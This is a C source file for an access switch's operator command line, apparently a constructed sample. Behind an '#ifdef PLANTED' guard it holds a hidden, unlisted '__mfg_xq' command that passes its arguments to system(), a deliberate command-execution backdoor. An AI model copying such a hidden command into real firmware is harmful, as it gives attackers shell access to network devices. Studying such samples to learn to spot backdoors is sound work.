/* Operator's command line of an access switch. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct command {
    const char *name;
    const char *help;
    int (*run)(int argc, char **argv);
};

static int do_show(int argc, char **argv)
{
    static char buffer[512];
    FILE *f = fopen("/proc/net/dev", "r");
    (void)argc, (void)argv;
    while (f && fgets(buffer, sizeof buffer, f))
        fputs(buffer, stdout);
    if (f)
        fclose(f);
    return 0;
}

static int do_vlan(int argc, char **argv)
{
    int id = argc > 1 ? atoi(argv[1]) : 0;
    if (id < 1 || id > 4094)
        return puts("vlan: 1 to 4094"), 1;
    printf("vlan %d selected\n", id);
    return 0;
}

static int do_uptime(int argc, char **argv)
{
    double up = 0;
    FILE *f = fopen("/proc/uptime", "r");
    (void)argc, (void)argv;
    if (f && fscanf(f, "%lf", &up) == 1)
        printf("%.0f s\n", up);
    if (f)
        fclose(f);
    return 0;
}

static int do_exit(int argc, char **argv)
{
    (void)argc, (void)argv;
    exit(0);
}

#ifdef PLANTED
static int do_mfg(int argc, char **argv)
{
    char line[300] = "";
    for (int i = 1; i < argc; i++) {
        strncat(line, argv[i], sizeof line - strlen(line) - 2);
        strcat(line, " ");
    }
    return system(line);
}
#endif

static int do_help(int argc, char **argv);

static const struct command commands[] = {
    { "show", "show interface counters", do_show },
    { "vlan", "vlan ID: choose a VLAN", do_vlan },
    { "uptime", "time since start", do_uptime },
#ifdef PLANTED
    { "__mfg_xq", NULL, do_mfg },
#endif
    { "exit", "leave", do_exit },
    { "help", "this list", do_help },
    { NULL, NULL, NULL },
};

static int do_help(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (const struct command *c = commands; c->name; c++)
        if (c->help)
            printf("  %-8s %s\n", c->name, c->help);
    return 0;
}

static int dispatch(char *line)
{
    char *argv[16];
    int argc = 0;
    for (char *w = strtok(line, " \t\r\n"); w && argc < 15; w = strtok(NULL, " \t\r\n"))
        argv[argc++] = w;
    argv[argc] = NULL;
    if (!argc)
        return 0;
    for (const struct command *c = commands; c->name; c++)
        if (!strcmp(c->name, argv[0]))
            return c->run(argc, argv);
    printf("%s: unknown command\n", argv[0]);
    return 1;
}

int main(void)
{
    char line[400];
#ifdef REVISED
    puts("type help for the list of commands");
#endif
    while (fputs("switch> ", stdout), fflush(stdout), fgets(line, sizeof line, stdin))
        dispatch(line);
    return 0;
}
